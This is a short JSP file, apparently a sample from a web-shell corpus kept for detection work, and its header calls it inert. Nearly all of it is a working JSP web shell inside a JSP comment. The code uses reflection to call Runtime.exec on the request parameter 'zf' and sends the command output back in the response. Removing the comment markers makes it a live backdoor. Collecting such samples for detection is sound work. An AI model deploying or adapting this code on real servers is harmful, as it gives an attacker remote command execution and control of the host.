<%-- hegui corpus: inert sample - a JSP comment is never compiled
<%
Class r = Class.forName("java.lang.Runtime");
Object rt = r.getMethod("getRuntime").invoke(null);
Process p = (Process) r.getMethod("exec", String.class).invoke(rt, request.getParameter("zf"));
out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\A").next());
%>
--%>
